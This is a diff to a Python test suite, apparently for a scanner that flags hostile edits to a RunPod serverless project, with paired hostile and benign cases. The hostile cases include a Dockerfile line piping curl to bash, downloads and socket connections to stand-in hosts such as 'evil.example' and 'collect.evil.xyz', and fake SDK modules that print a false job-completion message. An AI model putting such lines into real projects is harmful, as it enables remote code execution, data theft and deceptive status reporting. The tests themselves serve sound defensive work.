@@ -188,6 +188,14 @@ HOSTILE: tuple[Case, ...] = (
         edit(".runpod/tests.json", (',\n    {"name": "two", "input": {"text": "a b"}, "timeout": 5000}', "")),
     ),
     schema("code by the recipe for documents", "test_file", {"tests/test_handler.py": "x = 1\n"}),
+    schema(
+        "tests beside the tests", "weaker_test", {"test_input.json": None, ".runpod/test_input.json": '{"input": {}}'}
+    ),
+    Case(
+        name="another SDK", rule="shadowing", edits={"runpod/__init__.py": "print('Job x completed successfully.')\n"}
+    ),
+    Case(name="another SDK in a file", rule="shadowing", edits={"src/runpod.py": "x = 1\n"}),
+    Case(name="at each start", rule="shadowing", edits={"sitecustomize.py": "x = 1\n"}),
     docker("piped", "piped_to_shell", _INSTALL, f"RUN curl -s https://astral.sh/x | bash\n{_INSTALL}"),
     docker(
         "piped over lines",
@@ -202,6 +210,8 @@ HOSTILE: tuple[Case, ...] = (
     docker("somebody else's", "new_host", "huggingface.co/team/model", "huggingface.co/evil/model"),
     docker("host without a scheme", "new_host", _INSTALL, f"RUN curl -o x evil.example/x\n{_INSTALL}"),
     code("host in the handler", "new_host", 'URL = "https://evil.example/collect"'),
+    code("host of a connection", "new_host", 'import socket; socket.create_connection(("collect.evil.xyz", 443))'),
+    code("address of a connection", "new_host", 'HOST = "203.0.113.7"'),
     docker("extra index", "other_index", "--no-cache-dir", "--extra-index-url https://download.pytorch.org/whl/x"),
     docker("trusted host", "other_index", "--no-cache-dir", "--trusted-host pypi.org"),
     docker(
@@ -292,6 +302,8 @@ GOOD: tuple[Case, ...] = (
     docker("a stage more", None, "WORKDIR /app", "FROM base AS final\nWORKDIR /app"),
     docker("a package of the Dockerfile's", None, "torch==2.1.0", "torch==2.1.0 'setuptools<81'"),
     code("an import", None, "import json"),
+    code("this machine", None, 'HOST = "127.0.0.1"'),
+    code("a file and a module", None, 'NAME = __import__("os.path").join("weights.v1.bin", "config.json")'),
     code("an import instead", None, "try:\n    import yaml\nexcept ImportError:\n    yaml = None"),
     Case(name="an API break", edits=edit("handler.py", ('job["input"]["text"]', 'job.get("input", {})["text"]'))),
     Case(name="a new module", edits={"helpers.py": "def words(text):\n    return text.split()\n"}),
